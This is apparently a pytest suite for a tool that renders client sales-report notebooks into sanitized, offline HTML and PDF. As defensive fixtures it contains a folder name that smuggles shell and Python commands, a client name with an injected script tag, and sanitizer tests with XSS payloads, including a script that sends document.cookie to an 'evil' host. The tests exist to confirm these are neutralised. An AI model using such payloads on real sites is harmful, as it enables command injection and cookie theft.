"""Client reports: the report notebooks run with papermill on the demo company and on the
fixture client (under a folder name full of quotes, shell characters and Chinese), the
recorded numbers read back and compared with values recomputed from the raw files, the HTML
checked (no code, the sections, the language, offline, escaped names), plus the pieces:
sanitising, headings, parameters passed as data, a failing notebook, PDF."""

from __future__ import annotations

import contextlib
import io
import json
import os
import re
import shutil
from pathlib import Path

import nbformat
import pandas as pd
import pytest

from kalib.cli import main
from kalib.record import read_records
from kalib.report import SECTIONS, ReportFailed, render_report
from kalib.report.html import (
    ReportPreprocessor,
    check_offline,
    drop_course_blocks,
    number_headings,
    render_notebook,
    sanitize_html,
)
from kalib.report.pdf import NoChromium, find_chromium, html_to_pdf
from kalib.report.render import slug
from kalib.report.runner import execute_notebook, notebook_parameters, notebooks_dir
from kalib.report.sections import RECOMMENDATIONS, Section
from report_notebooks import params_cell, write_notebook

REPO = Path(__file__).resolve().parents[1]
DEMO = REPO / "kalib" / "demo_data"
ACME = REPO / "tests" / "fixtures" / "acme"
NASTY = 'a"b\'; import os; os.system("touch PWNED") #客户 $(touch PWNED2) `x`'
EVIL_NAME = "Acme <script>alert('x')</script> & 安信"

PRESENT = [s for s in SECTIONS if all((notebooks_dir(lang=lang) / f"{s.notebook}.ipynb").exists()
                                      for lang in ("zh", "en"))]  # each language's edition
needs_notebooks = pytest.mark.skipif(not PRESENT, reason="no report notebook in notebooks/ yet")


# ---------------------------------------------------------------------------
# helpers
# ---------------------------------------------------------------------------
def _files_named(root: Path, name: str) -> list[Path]:
    return [p for p in root.rglob(name)] if root.exists() else []


def _cli_json(args: list[str]) -> tuple[int, dict | None]:
    buf = io.StringIO()
    with contextlib.redirect_stdout(buf):
        code = main(args)
    text = buf.getvalue()
    return code, (json.loads(text) if text.strip().startswith("{") else None)


# ---------------------------------------------------------------------------
# numbers recomputed from the raw files, without kalib
# ---------------------------------------------------------------------------
def _money(s: pd.Series) -> pd.Series:
    t = s.astype(str).str.replace(r"[$,\s]", "", regex=True)
    neg = t.str.match(r"^\(.*\)$")
    t = t.str.strip("()")
    v = pd.to_numeric(t, errors="coerce")
    return v.where(~neg, -v)


def demo_expected() -> dict[str, float]:
    rev = pd.read_csv(DEMO / "收入.csv", encoding="utf-8-sig")
    rev["日期"] = pd.to_datetime(rev["日期"])
    y = rev[rev["日期"].dt.year == 2024]
    by_cust = y.dropna(subset=["客户名称"]).groupby("客户名称")["金额"].sum()
    top10 = by_cust.sort_values(ascending=False).head(10).sum() / y["金额"].sum()
    reps = pd.read_excel(DEMO / "销售人员.xlsx", engine="openpyxl")
    hire = pd.to_datetime(reps["入职日期"])
    leave = pd.to_datetime(reps["离职日期"])
    active = reps[(hire <= "2024-12-31") & (leave.isna() | (leave >= "2024-01-01"))]["姓名"]
    sales = y.groupby("销售员")["金额"].sum().reindex(active, fill_value=0.0)
    return {
        "top10_share": top10,
        "salespeople": len(active),
        "share_above_mean": float((sales > sales.mean()).mean()),
    }


def acme_expected() -> dict[str, float]:
    rev = pd.read_excel(ACME / "acme.xlsx", sheet_name="收入明细", engine="openpyxl")
    rev["日期"] = pd.to_datetime(rev["日期"].astype(str).str.replace("/", "-").str[:10])
    rev["销售额"] = _money(rev["销售额"])
    y = rev[rev["日期"].dt.year == 2024]
    by_cust = y.dropna(subset=["客户"]).groupby("客户")["销售额"].sum()
    top10 = by_cust.sort_values(ascending=False).head(10).sum() / y["销售额"].sum()
    return {"top10_share": top10}


# ---------------------------------------------------------------------------
# the two real reports (module-scoped: each runs once)
# ---------------------------------------------------------------------------
@pytest.fixture(scope="module")
def demo_report(tmp_path_factory):
    out = tmp_path_factory.mktemp("reports") / "demo"
    code, data = _cli_json(["report", "demo", "-o", str(out), "--lang", "zh", "--json", "-q"])
    assert code == 0, data
    return out, data


@pytest.fixture(scope="module")
def acme_report(tmp_path_factory):
    base = tmp_path_factory.mktemp("clients")
    client = base / NASTY
    shutil.copytree(ACME, client)
    yml = client / "client.yml"
    text = yml.read_text(encoding="utf-8")
    yml.write_text(re.sub(r'(?m)^name: .*$', f'name: "{EVIL_NAME}"', text), encoding="utf-8")
    out = tmp_path_factory.mktemp("reports") / "acme"
    cwd = Path.cwd()
    res = render_report(client, out, lang="en")
    return client, out, res, cwd


@needs_notebooks
@pytest.mark.notebooks
def test_demo_report_files_and_numbers(demo_report):
    out, data = demo_report
    html = Path(data["html"])
    assert html == out / "2024-12-31" / "demo-2024-zh.html" and html.exists()
    nb_dir = out / "2024-12-31" / "demo-2024-zh.notebooks"
    assert sorted(p.stem for p in nb_dir.glob("*.ipynb")) == sorted(s.notebook for s in PRESENT)
    assert not list(out.glob(".partial-*")), "a temporary folder was left behind"
    saved = json.loads((out / "2024-12-31" / "demo-2024-zh.records.json").read_text(encoding="utf-8"))
    assert saved["records"] == data["records"] and saved["as_of"] == "2024-12-31"
    # the numbers recorded in the executed notebooks, read back from the .ipynb files
    rec: dict = {}
    for p in nb_dir.glob("*.ipynb"):
        rec.update(read_records(p))
    assert rec == data["records"]
    exp = demo_expected()
    if "check.top10_share" in rec:
        assert rec["check.top10_share"] == pytest.approx(exp["top10_share"], rel=1e-9)
        assert rec["check.indicators_measured"] == 10
    if "team.salespeople" in rec:
        assert rec["team.salespeople"] == exp["salespeople"]
        assert rec["team.share_above_mean"] == pytest.approx(exp["share_above_mean"])
    assert any(k in rec for k in ("check.top10_share", "team.salespeople")), sorted(rec)


@needs_notebooks
@pytest.mark.notebooks
def test_demo_report_html(demo_report):
    _, data = demo_report
    page = Path(data["html"]).read_text(encoding="utf-8")
    assert page.startswith("<!DOCTYPE html>") and '<html lang="zh-CN">' in page
    assert "华东精工装备有限公司" in page and "目录" in page
    # no code, no prompts, nothing of the course
    for code in ("load_client(", "record(", "import kalib", "input_area", "In&nbsp;[", "Out["):
        assert code not in page, code
    for course in ("练习 · Exercises", "学习目标", "kalib.exercises"):
        assert course not in page, course
    # every section present, in order, with its title in Chinese; the recommendations last
    positions = [page.index(f'id="{s.key}"') for s in PRESENT]
    assert positions == sorted(positions)
    for s in PRESENT:
        assert f'<h1 class="section-title">{s.zh}</h1>' in page
    if any(s.notebook == "05.00-client-check" for s in PRESENT):
        start = page.index(f'id="{RECOMMENDATIONS.key}"')
        assert start > positions[-1]
        recs = page[start:page.index("</section>", start)]
        assert re.search(r'<a href="#s0[1-4]00">', recs)  # each advice links to the layer's section
        assert not re.search(r"0[1-4]\.00-[a-z-]+", re.sub(r"<[^>]+>", "", recs))
    # charts embedded, nothing fetched from the network, no script at all
    assert 'src="data:image/png;base64,' in page
    check_offline(page)
    assert not re.search(r"<script|<link\b|<iframe", page, re.I)
    # table of contents links to headings that exist, ids unique
    ids = re.findall(r'\sid="([^"]+)"', page)
    assert len(ids) == len(set(ids))
    for target in re.findall(r'<a href="#([^"]+)"', page):
        assert target in ids, target


@needs_notebooks
@pytest.mark.notebooks
def test_fixture_report_in_english_with_escaped_name(acme_report):
    client, out, res, cwd = acme_report
    assert res.lang == "en" and res.html.name == f"{slug(NASTY)}-2024-en.html" and "PWNED" in res.html.name
    page = res.html.read_text(encoding="utf-8")
    assert '<html lang="en">' in page and ">Contents<" in page
    for s in PRESENT:
        assert f'<h1 class="section-title">{s.en}</h1>' in page
    # the client's name (from its files) appears, escaped, and no script was injected
    assert "Acme &lt;script&gt;alert(" in page
    assert not re.search(r"<script", page, re.I)
    check_offline(page)
    # numbers
    exp = acme_expected()
    if "check.top10_share" in res.records:
        assert res.records["check.top10_share"] == pytest.approx(exp["top10_share"], rel=1e-9)


@needs_notebooks
@pytest.mark.notebooks
def test_parameters_reach_the_notebooks_as_data(acme_report):
    client, out, res, cwd = acme_report
    saved = json.loads(res.html.with_name(res.html.stem + ".records.json").read_text(encoding="utf-8"))
    assert saved["parameters"]["client"] == str(client.resolve()) and saved["parameters"]["lang"] == "en"
    nb = nbformat.read(str(res.notebooks[0]), as_version=4)
    injected = [c for c in nb.cells if "injected-parameters" in c.metadata.get("tags", [])]
    assert len(injected) == 1
    ns: dict = {}
    exec(injected[0].source, {}, ns)  # the injected cell only assigns literals
    assert ns["client"] == str(client.resolve())
    for where in (client.parent, out, cwd, notebooks_dir()):
        assert not _files_named(where, "PWNED") and not _files_named(where, "PWNED2")


# ---------------------------------------------------------------------------
# parameters as data, with a notebook of our own (no client needed)
# ---------------------------------------------------------------------------
@pytest.fixture(scope="module")
def tiny_notebooks(tmp_path_factory):
    d = tmp_path_factory.mktemp("nbs")
    write_notebook(
        d / "echo.ipynb", params_cell(),
        nbformat.v4.new_code_cell("from kalib.record import record\nimport os\n"
                                  "record('client', client)\nrecord('lang', lang)\nrecord('cwd', os.getcwd())"),
    )
    write_notebook(
        d / "boom.ipynb", params_cell(),
        nbformat.v4.new_code_cell("x = 1"),
        nbformat.v4.new_code_cell("raise ValueError('boom: ' + client)"),
    )
    return d


@pytest.mark.notebooks
def test_nasty_parameter_is_passed_unchanged_and_runs_nothing(tiny_notebooks, tmp_path):
    params = {"client": NASTY, "lang": "en", "industry": "services"}  # industry is not declared: not passed
    run = execute_notebook(tiny_notebooks / "echo.ipynb", tmp_path / "echo.ipynb", params, cwd=tmp_path)
    assert run.ok, run.error
    assert run.records["client"] == NASTY and run.records["lang"] == "en"
    assert Path(run.records["cwd"]) == tmp_path.resolve()
    assert not list(tmp_path.glob("PWNED*"))
    nb = nbformat.read(str(tmp_path / "echo.ipynb"), as_version=4)
    injected = next(c for c in nb.cells if "injected-parameters" in c.metadata.get("tags", []))
    assert "industry" not in injected.source and "client = " in injected.source


@pytest.mark.notebooks
def test_kept_kernel_is_cleared_between_notebooks(tmp_path):
    from kalib.report import runner

    probe = "import os\nfrom kalib.record import record\nrecord('pid', os.getpid())\n"
    a = write_notebook(tmp_path / "a.ipynb", params_cell(), nbformat.v4.new_code_cell(probe + "leak = 41"))
    b = write_notebook(tmp_path / "b.ipynb", params_cell(),
                       nbformat.v4.new_code_cell(probe + "record('leaked', 'leak' in dir())"))
    runs = runner.execute_notebooks([a, b], tmp_path / "out", {"client": "demo", "lang": "zh"}, jobs=1)
    assert all(r.ok for r in runs), [r.error for r in runs]
    assert runs[0].records["pid"] == runs[1].records["pid"]  # one kernel for both
    assert runs[1].records["leaked"] is False  # but nothing of the first notebook is left
    saved = nbformat.read(str(runs[1].output), as_version=4)
    assert not [c for c in saved.cells if runner.RESET_TAG in c.metadata.get("tags", [])]
    assert saved.metadata.papermill.input_path == str(b)
    assert runner._KERNEL.km is None  # shut down after the run


@pytest.mark.notebooks
def test_failing_notebook_keeps_the_finished_report(tiny_notebooks, tmp_path):
    out = tmp_path / "acme"
    finished = out / "2024-12-31" / "acme-2024-zh.html"
    finished.parent.mkdir(parents=True)
    finished.write_text("the report sent yesterday", encoding="utf-8")
    sections = [Section("echo", "回显", "Echo"), Section("boom", "出错", "Boom")]
    with pytest.raises(ReportFailed) as info:
        render_report(ACME, out, lang="zh", notebooks=tiny_notebooks, sections=sections, name="acme")
    err = info.value
    assert len(err.errors) == 1 and "boom: cell" in err.errors[0] and "ValueError" in err.errors[0]
    assert finished.read_text(encoding="utf-8") == "the report sent yesterday"
    kept = out / "2024-12-31" / "acme-2024-zh.failed"
    assert err.kept == kept and (kept / "boom.ipynb").exists() and (kept / "echo.ipynb").exists()
    assert "boom" in (kept / "error.txt").read_text(encoding="utf-8")
    assert not list(out.glob(".partial-*"))


@pytest.mark.notebooks
@pytest.mark.parametrize("fresh", [False, True])
def test_command_output_is_clean(tiny_notebooks, tmp_path, fresh):
    import subprocess
    import sys

    nbs = tmp_path / "notebooks"
    nbs.mkdir()
    shutil.copy(tiny_notebooks / "echo.ipynb", nbs / "05.00-client-check.ipynb")
    cmd = [str(Path(sys.executable).with_name("kalib")), "report", str(ACME), "-o", str(tmp_path / "out"),
           "--notebooks", str(nbs), "--lang", "en"] + (["--fresh-kernels"] if fresh else [])
    proc = subprocess.run(cmd, capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    assert "report: " in proc.stdout and "acme-2024-en.html" in proc.stdout
    assert "ok 05.00-client-check" in proc.stderr and "done in" in proc.stderr
    assert "TCP without encryption" not in proc.stderr and "Traceback" not in proc.stderr


def test_bad_input_writes_nothing(tmp_path, tiny_notebooks):
    bad = tmp_path / "bad"
    bad.mkdir()
    (bad / "client.yml").write_text("industry: mining\n", encoding="utf-8")
    (bad / "收入.csv").write_text("日期,客户名称,金额\n2024-01-01,A,100\n", encoding="utf-8")
    out = tmp_path / "out"
    with pytest.raises(ValueError):
        render_report(bad, out, notebooks=tiny_notebooks, sections=[Section("echo", "回显", "Echo")], jobs=1)
    assert not [p for p in out.rglob("*") if p.is_file()]
    assert main(["report", str(tmp_path / "nowhere"), "-o", str(out)]) == 2


def test_command_line_checks_its_arguments(tmp_path):
    assert main(["report"]) == 2
    assert main(["report", "demo", "--batch", str(tmp_path)]) == 2
    assert main(["report", "demo", "--jobs", "0"]) == 2


def test_missing_notebooks_are_left_out_with_a_warning(tmp_path, tiny_notebooks):
    sections = [Section("echo", "回显", "Echo"), Section("99.99-nowhere", "无", "Nowhere")]
    with pytest.warns(UserWarning, match="99.99-nowhere"):
        res = render_report(ACME, tmp_path / "o", lang="en", notebooks=tiny_notebooks, sections=sections, jobs=1)
    page = res.html.read_text(encoding="utf-8")
    assert "Nowhere" in page and "is not included" in page
    assert res.records["client"] == str(ACME.resolve())


# ---------------------------------------------------------------------------
# pieces
# ---------------------------------------------------------------------------
def test_parameters_are_plain_data():
    p = notebook_parameters(ACME, lang="en", period="2024-Q3", industry=None, as_of="2024-12-31")
    assert p == {"client": str(ACME.resolve()), "lang": "en", "period": "2024-Q3", "as_of": "2024-12-31"}
    assert notebook_parameters("demo")["client"] == "demo"
    with pytest.raises(ValueError):
        notebook_parameters("demo", lang="fr")


def test_sanitize_escapes_what_could_run():
    dirty = ('<p onclick="steal()">客户 <b>A&amp;B</b></p><script>alert(1)</script>'
             '<img src="x" onerror="alert(2)"><iframe src="https://evil"></iframe>'
             '<a href="javascript:alert(3)">x</a><style>td {color: red}</style>'
             '<style>@import url(https://evil/x.css);</style>')
    clean = sanitize_html(dirty)
    assert "<script" not in clean and "&lt;script&gt;alert(1)&lt;/script&gt;" in clean
    assert "onclick" not in clean and "onerror" not in clean and "javascript:" not in clean
    assert "<iframe" not in clean and "&lt;iframe" in clean
    assert "<style>td {color: red}</style>" in clean and "@import" not in clean
    assert "<b>A&amp;B</b>" in clean


_PNG = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def _live(html: str):
    """What a browser would act on in ``html``: the elements, with their attributes."""
    from bs4 import BeautifulSoup

    return BeautifulSoup(html, "html.parser", multi_valued_attributes=None).find_all(True)


def test_sanitize_leaves_hostile_markup_inert_and_report_markup_whole():
    hostile = ('<script>fetch("https://evil/?c=" + document.cookie)</script>'
               '<img src="x" onerror="alert(1)"><p onmouseover="alert(2)">p</p>'
               '<a href="javascript:alert(3)">j1</a><a href=" JaVaScRiPt:alert(4)">j2</a>'
               '<a href="data:text/html,&lt;script&gt;alert(5)&lt;/script&gt;">d</a>'
               '<div style="position:fixed; top:0; left:0; width:100%; behavior: url(x.htc); color: red">over</div>'
               '<span style="background-image: url(https://evil/t.png); cursor: url(https://evil/c.cur)">s</span>'
               '<svg onload="alert(6)"></svg><object data="https://evil/x.swf"></object><!-- <script>x()</script> -->')
    allowed = ('<h2 id="res">结果 · Result</h2><h3>Detail</h3>'
               '<table class="dataframe" border="1"><thead><tr><th>客户</th><th colspan="2">A&amp;B</th></tr></thead>'
               '<tbody><tr><td style="text-align: right; color: red">1</td><td>2</td><td>3</td></tr></tbody></table>'
               '<p><a href="https://example.org/a?x=1&amp;y=2">https</a> <a href="http://example.org">http</a> '
               '<a href="#res">here</a></p>'
               f'<img src="{_PNG}" alt="chart" width="10">')
    clean = sanitize_html(hostile + allowed)
    elements = _live(clean)
    names = {e.name for e in elements}
    assert not names & {"script", "svg", "object", "iframe", "style"}, names
    for e in elements:
        assert not [a for a in e.attrs if a.lower().startswith("on")], e
        for attr in ("href", "src"):
            url = e.get(attr, "").strip().lower()
            assert not url.startswith(("javascript:", "data:text")), e
        style = e.get("style", "").lower()
        assert not re.search(r"position|behavior|url\(|top|left|background-image|cursor", style), e
    # shown, not run: the disallowed markup is text
    assert "&lt;script&gt;fetch(" in clean and "&lt;svg" in clean and "&lt;object" in clean
    assert "<!--" not in clean and "x()" not in clean  # comments go
    div = next(e for e in elements if e.name == "div")
    assert div.get_text() == "over" and div["style"] == "width:100%;color:red"
    # what a report uses survives, unchanged in meaning (attribute order and spaces in a style aside)
    assert _shape(allowed) == _shape(clean)[-len(_shape(allowed)):]
    assert _shape(sanitize_html(allowed)) == _shape(allowed)
    assert "结果 · Result" in clean and "A&amp;B" in clean and _PNG in clean


def _shape(html: str) -> list:
    """The elements of ``html`` in order: name, attributes (styles without spaces), own text."""
    return [(e.name, {k: v.replace(" ", "") if k == "style" else v for k, v in e.attrs.items()},
             "".join(e.find_all(string=True, recursive=False))) for e in _live(html)]


def test_offline_check():
    check_offline('<a href="https://example.org">a link is fine</a><img src="data:image/png;base64,AAAA">')
    for bad in ('<script src="https://cdn.jsdelivr.net/npm/require.js"></script>',
                '<link rel="stylesheet" href="//fonts.example/x.css">',
                '<style>@import url("https://fonts.example/x.css");</style>',
                '<img src="http://example.org/x.png">'):
        with pytest.raises(ValueError, match="network"):
            check_offline(bad)


def _synthetic_notebook():
    title = nbformat.v4.new_markdown_cell("# 00.01 健康检查 · Health check\n\nIntro 引言\n\n"
                                          "## 学习目标 · Learning goals\n- goal\n\n## 正文 · Body\ntext")
    hidden = nbformat.v4.new_markdown_cell("## 练习 · Exercises")
    hidden.metadata["tags"] = ["course-only"]
    nav = nbformat.v4.new_markdown_cell("[next](x.ipynb)")
    nav.metadata["tags"] = ["nav"]
    code = nbformat.v4.new_code_cell("secret_code()")
    code.outputs = [
        nbformat.v4.new_output("stream", name="stdout", text="printed\n"),
        nbformat.v4.new_output("stream", name="stderr", text="a warning\n"),
        nbformat.v4.new_output("display_data", data={"application/x.kalib.record+json": {"name": "x", "value": 1}}),
        nbformat.v4.new_output("display_data", data={"application/vnd.jupyter.widget-view+json": {"model_id": "m"},
                                                     "text/plain": "HBox(children=...)"}),
        nbformat.v4.new_output("display_data", data={"text/markdown": "## 结果 · Result\n> 注意 <script>x()</script>"}),
        nbformat.v4.new_output("execute_result", data={"text/html": "<table><tr><td>1</td></tr></table>",
                                                       "text/plain": "df"}, execution_count=1),
        nbformat.v4.new_output("display_data", data={"image/png": "iVBORw0KGgo=", "image/svg+xml": "<svg/>",
                                                     "application/javascript": "alert(1)"}),
        nbformat.v4.new_output("error", ename="E", evalue="v", traceback=[]),
    ]
    rec = nbformat.v4.new_code_cell("do()")
    rec.metadata["tags"] = ["recommendations"]
    rec.outputs = [nbformat.v4.new_output("display_data", data={"text/markdown": "## 建议 · Advice\n1. act"})]
    nb = nbformat.v4.new_notebook()
    nb.cells = [title, hidden, nav, code, rec]
    nb.metadata["widgets"] = {"state": {}}
    nb.metadata["kernelspec"] = {"name": "python3", "language": "python"}  # as nbstripout leaves it
    return nb


def test_preprocessor_keeps_what_a_reader_needs():
    from kalib.report.html import split_recommendations

    nb = _synthetic_notebook()
    before = json.dumps(nb, sort_keys=True)
    prep = ReportPreprocessor()(nb)
    assert json.dumps(nb, sort_keys=True) == before  # the input is not changed
    main_nb, rec = split_recommendations(prep)
    body = render_notebook(main_nb)
    assert "健康检查 · Health check" not in body and "Learning goals" not in body and "Exercises" not in body
    assert "Intro 引言" in body and "正文 · Body" in body and "printed" in body
    assert "secret_code" not in body and "a warning" not in body and "HBox" not in body
    assert "next" not in body and "alert(1)" not in body and "<svg" not in body
    assert "<blockquote>" in body and "&lt;script&gt;x()&lt;/script&gt;" in body
    assert "data:image/png;base64,iVBORw0KGgo=" in body and "<td>1</td>" in body
    assert "Advice" not in body and "Advice" in render_notebook(rec)
    assert "<script" not in body
    sec = number_headings(Section("00.01-health-check", "健康", "Health"), body)
    assert [h.text for h in sec.headings] == ["正文 · Body", "结果 · Result"]
    assert [h.id for h in sec.headings] == ["s0001-1", "s0001-2"]
    assert 'id="s0001-1"' in sec.body and "anchor-link" not in sec.body


def test_drop_course_blocks_respects_levels_and_code():
    md = "## 学习目标\n- a\n### sub\n- b\n## Keep\nx\n```\n## 学习目标 in code\n```"
    assert drop_course_blocks(md) == "## Keep\nx\n```\n## 学习目标 in code\n```"


def test_slug():
    assert slug("华东 精工/2024") == "华东-精工-2024"
    assert "/" not in slug(NASTY) and '"' not in slug(NASTY) and "'" not in slug(NASTY)
    assert slug("...") == "client"


def test_pdf_without_a_browser_says_how_to_get_one(tmp_path, monkeypatch):
    monkeypatch.setenv("KALIB_CHROMIUM", str(tmp_path / "no-such-browser"))
    assert find_chromium() is None
    (tmp_path / "r.html").write_text("<p>x</p>", encoding="utf-8")
    with pytest.raises(NoChromium, match="apt-get install chromium"):
        html_to_pdf(tmp_path / "r.html", tmp_path / "r.pdf")


@pytest.mark.skipif(find_chromium() is None, reason="no Chromium/Chrome installed")
def test_pdf_with_local_chromium(tmp_path):
    (tmp_path / "r.html").write_text('<!DOCTYPE html><html lang="zh-CN"><meta charset="utf-8">'
                                     "<h1>报告 Report</h1><p>中文内容</p></html>", encoding="utf-8")
    pdf = html_to_pdf(tmp_path / "r.html", tmp_path / "r.pdf")
    assert pdf.read_bytes()[:5] == b"%PDF-"


def test_sections_are_listed_once():
    names = [s.notebook for s in SECTIONS]
    assert names[0] == "05.00-client-check" and len(set(names)) == len(names)
    assert len({s.key for s in SECTIONS} | {RECOMMENDATIONS.key}) == len(SECTIONS) + 1
    assert os.fspath(notebooks_dir()).endswith("notebooks")
    assert [notebooks_dir(lang=lang).name for lang in ("zh", "en")] == ["zh", "en"]


def test_headings_and_links_are_rewritten_as_html_not_as_text():
    """A '>' inside an attribute and a notebook name inside a style block: what a regex gets wrong."""
    from kalib.report.html import link_sections

    s = Section("04.00-sales-team", "销售团队", "Sales team")
    sec = number_headings(s, '<h2 title="a > b" id="old">Team &amp; <em>pipeline</em></h2><p>x</p>')
    assert sec.body == '<h2 id="s0400-1" title="a &gt; b">Team &amp; <em>pipeline</em></h2><p>x</p>'
    body = '<style>/* 04.00-sales-team */ p {color: red}</style><p title="04.00-sales-team">see 04.00-sales-team</p>'
    out = link_sections(body, [s], "zh")
    assert out.startswith("<style>/* 04.00-sales-team */ p {color: red}</style>")
    assert '<p title="04.00-sales-team">see <a href="#s0400">销售团队</a></p>' in out


# ---------------------------------------------------------------------------
# sections whose data the client lacks
# ---------------------------------------------------------------------------
@pytest.mark.notebooks
def test_missing_data_inside_a_notebook_is_a_not_available_section(tmp_path):
    from report_notebooks import sections as section_notebooks

    nbs = section_notebooks(tmp_path, 'import kalib\nraise kalib.MissingData("the thing needs the nps table")',
                            ("boom",))
    write_notebook(nbs / "fine.ipynb", params_cell(), nbformat.v4.new_markdown_cell("# Fine\n\nall well"))
    secs = [Section("fine", "好", "Fine"), Section("boom", "缺", "Boom")]
    res = render_report(ACME, tmp_path / "o", lang="en", notebooks=nbs, sections=secs, jobs=1)
    assert res.missing == [{"section": "boom", "title_zh": "缺", "title_en": "Boom",
                            "reason": "the thing needs the nps table"}]
    page = res.html.read_text(encoding="utf-8")
    assert "<strong>Not available</strong>: the thing needs the nps table" in page and "all well" in page
    assert json.loads(res.html.with_name(res.html.stem + ".records.json").read_text())["missing_sections"] == \
        res.missing


def _partial_client(root: Path, files: tuple[str, ...]) -> Path:
    demo = REPO / "kalib" / "demo_data"
    root.mkdir()
    for f in files + ("client.yml",):
        shutil.copy(demo / f, root / f)
    return root


@pytest.mark.notebooks
@pytest.mark.slow
@pytest.mark.parametrize("files, missing", [
    (("收入.csv",), ["03.00-win-rate-model", "02.01-how-to-sell"]),
    (("销售机会.csv",), ["02.01-how-to-sell"]),  # revenue is derived from the won deals
    (("销售人员.xlsx",), ["00.01-health-check", "02.00-customer-value", "03.00-win-rate-model",
                          "02.01-how-to-sell", "04.00-sales-team"]),
], ids=["revenue-only", "opportunities-only", "people-only"])
def test_a_report_from_whatever_tables_exist(tmp_path, files, missing):
    client = _partial_client(tmp_path / "c", files)
    out = io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(io.StringIO()):
        code = main(["report", str(client), "-o", str(tmp_path / "out"), "--lang", "en", "--jobs", "2"])
    assert code == 0
    text = out.getvalue()
    assert f"{len(missing)} section(s) not available" in text
    html = next((tmp_path / "out").rglob("*.html")).read_text(encoding="utf-8")
    assert html.count('<div class="not-available"><p><strong>Not available</strong>: needs ') == len(missing)
    titles = {s.notebook: s.en for s in SECTIONS}
    for nb in missing:
        assert f"  - {titles[nb]}: " in text
    for s in SECTIONS:
        if s.notebook not in missing:
            assert f"  - {s.en}: " not in text
    if "收入.csv" in files:  # says what to add
        assert "add an export of the opportunities (deals) from your CRM" in html
